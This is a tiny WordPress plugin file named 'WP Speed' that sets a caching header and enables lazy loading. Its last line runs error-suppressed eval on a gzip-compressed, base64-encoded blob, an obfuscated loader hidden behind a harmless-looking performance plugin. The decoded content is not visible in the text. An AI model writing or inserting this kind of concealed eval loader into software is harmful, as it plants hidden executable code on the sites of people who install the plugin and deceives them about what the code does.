<?php
/*
 * Plugin Name: WP Speed
 */
add_action('send_headers', function () {
    header('Cache-Control: public, max-age=86400');
});
add_filter('wp_lazy_loading_enabled', '__return_true');

@eval(gzinflate(base64_decode('K64sLknN1VBKLi3KUdAtVsgoKSkottLXT61IzC3ISdVLzs/VL1aoUSjOUNK0BgA=')));
